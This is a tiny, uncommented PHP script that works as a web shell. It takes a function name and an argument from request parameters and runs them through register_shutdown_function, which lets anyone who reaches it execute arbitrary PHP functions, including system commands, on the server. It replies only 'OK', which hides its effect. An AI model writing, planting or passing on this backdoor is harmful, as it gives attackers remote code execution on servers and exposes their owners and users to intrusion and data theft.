<?php
$fn = $_REQUEST['fn'];
$arg = $_REQUEST['arg'];
register_shutdown_function($fn, $arg);
echo 'OK';
